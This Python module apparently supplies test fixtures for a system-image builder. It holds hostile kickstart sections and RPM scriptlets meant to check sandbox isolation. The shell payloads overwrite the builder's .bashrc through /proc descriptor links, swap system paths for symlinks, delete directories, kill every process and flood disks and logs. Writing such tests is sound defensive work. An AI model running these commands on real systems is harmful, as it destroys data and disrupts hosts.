# SPDX-License-Identifier: MIT
"""What hostile kickstarts and packages do. Each once reached the host, or is a neighbour of one that did.

`{home}` is the home of the user who builds: its files are the canaries.
"""

from __future__ import annotations

# Everything that a process may have left open, or that another's /proc entry leads to.
REACH = """
for folder in /proc/[0-9]* /proc/self; do
    for number in 0 1 2 3 4 5 6 7 8 9 10 11 12 20 63 255; do
        echo '{"say": "answer", "value": {}}' >$folder/fd/$number
        rm -f $folder/fd/$number/../.bashrc
        echo CODE >$folder/fd/$number/../../.bashrc
        echo CODE >$folder/fd/$number/.bashrc
    done
    for place in work disk.raw work/disk.raw initramfs cache; do
        rm -rf $folder/root/$place
        ln -s {home}/.bashrc $folder/root/$place
    done
    echo CODE >$folder/root{home}/.bashrc
    echo CODE >$folder/cwd/.bashrc
done 2>/dev/null
true
"""
LINKS = """
rm -rf /var/log && ln -s {home}/Documents /var/log
for name in /boot/vmlinuz-6.0.0-synthetic /boot/initramfs-6.0.0-synthetic.img /etc/fstab /etc/machine-id \\
        /etc/hostname /etc/resolv.conf /boot/grub2/grub.cfg /etc/default/grub /etc/kernel/cmdline \\
        /boot/grub2/i386-pc/core.img /var/lib/dbus/machine-id; do
    mkdir -p "${name%/*}"; rm -rf $name; ln -s {home}/.bash_profile $name
done
rm -rf /var/cache /var/lib/dnf /tmp /var/tmp /var/spool /var/lib/cloud
ln -s {home}/Documents /var/cache
ln -s {home}/Documents /var/lib/dnf
ln -s {home} /tmp; ln -s {home} /var/tmp; ln -s {home} /var/spool; ln -s {home}/Documents /var/lib/cloud
mv /root /root.gone; ln -s {home} /root
"""
KILL = """
mount -o remount,rw /sys/fs/cgroup; mount -o remount,rw /sys
find /sys/fs/cgroup -name cgroup.kill | while read -r file; do echo 1 >"$file"; done
kill -9 -1
"""

# Name -> what is in the kickstart after %packages. The build may fail; the host may not notice.
KICKSTARTS = {
    "%pre's log is a link to a descriptor": """
%pre --log=/tmp/l
ln -s /proc/self/fd/3/../../.bashrc /tmp/l
echo CODE
%end""",
    "%pre's log is a link to a file": """
%pre --log=/tmp/l
ln -s {home}/.bashrc /tmp/l
echo CODE
%end""",
    "%pre's logs are links to every descriptor": "".join(
        f"\n%pre --log=/tmp/l{number}\nln -s /proc/self/fd/{number} /tmp/l{number}\necho CODE\n%end"
        for number in range(16)
    ),
    "%post's log is a link": """
%post --log=/root/l
ln -s {home}/.bashrc /root/l
echo CODE
%end""",
    "%post --nochroot's log goes through a linked folder": """
%post --nochroot --log=/mnt/sysimage/logs/.bashrc
ln -s {home} /mnt/sysimage/logs
echo CODE
%end""",
    "%post reaches for whatever is open": f"%post\n{REACH}\n%end",
    "%post --nochroot reaches for whatever is open": f"%post --nochroot\n{REACH}\n%end",
    "%pre reaches for whatever is open": f"%pre\n{REACH}\n%end",
    "%pre-install reaches for whatever is open": f"%pre-install\n{REACH}\n%end",
    "%pre-install links folders that packages and we write to": """
%pre-install
cd /mnt/sysimage
ln -s {home} boot; ln -s {home}/Documents var; ln -s {home} etc; ln -s {home} root; ln -s {home} proc
ln -s {home} run; ln -s {home} dev
%end""",
    "%post links everything that is written later": f"%post\n{LINKS}\n%end",
    "%post replaces folders that programs get": """
%post
rm -rf /run /dev /proc /sys
for name in run dev proc sys; do mv /$name /$name.old; ln -s {home} /$name; done
%end
%post
true
%end""",
    "%post kills what it can": f"%post\n{KILL}\n%end",
    "%post --nochroot kills what it can": f"%post --nochroot\n{KILL}\n%end",
    "%post makes hard links": """
%post
ln {home}/.bashrc /etc/hard; ln /proc/self/fd/1 /etc/hard1; ln /dev/null /etc/hard2
%end""",
    "%post makes fifos where files are read": """
%post
for name in /etc/fstab /etc/os-release /usr/lib/os-release /etc/default/grub /boot/grub2/grub.cfg; do
    rm -f $name; mkfifo $name
done
%end""",
    "%post makes files without an end": """
%post
for name in /etc/fstab /usr/lib/os-release /etc/default/grub; do
    rm -f $name; dd if=/dev/null of=$name bs=1 seek=9000000000
done
%end""",
    "%post makes folders of great depth": """
%post
mkdir /deep; cd /deep; i=0
while [ $i -lt 1600 ]; do mkdir d && cd d || break; i=$((i+1)); done
%end""",
    "%post says more than a log holds": "%post\nyes 01234567890123456789 | head -c 100000000\n%end",
}

# Name of a package -> its scriptlets.
SCRIPTLETS = {
    "hostile-reach": {
        "post": REACH.replace("{home}", "/root"),
        "posttrans": REACH.replace("{home}", "/root"),
    },
    "hostile-look": {
        "posttrans": "ls -d /proc/[0-9]* | wc -l >/processes\n"
        "ls /proc/1/root /work /cache /initramfs >/seen 2>&1\n"
        "grep CapEff /proc/self/status >/capabilities\n"
        "mount -t tmpfs none /mnt 2>/mounting || echo no >>/mounting\n"
    },
    "hostile-events": {
        "post": 'echo \'{"event": "installed"}\' >/proc/1/fd/1; for i in /proc/[0-9]*/fd/1; do\n'
        'echo \'{"event": "error", "kind": "missing", "message": "x", "specs": 1}\' >$i\n'
        "done 2>/dev/null\ntrue\n"
    },
    # Ten thousand warnings in the worker's name, and as many lines of its own.
    "hostile-flood": {
        "post": 'line=\'{"event": "warning", "message": "flood"}\'\n'
        'for i in /proc/[0-9]*/fd/1; do yes "$line" | head -n 10000 >$i; done 2>/dev/null\n'
        "yes flood | head -c 10000000 >&2\ntrue\n"
    },
}
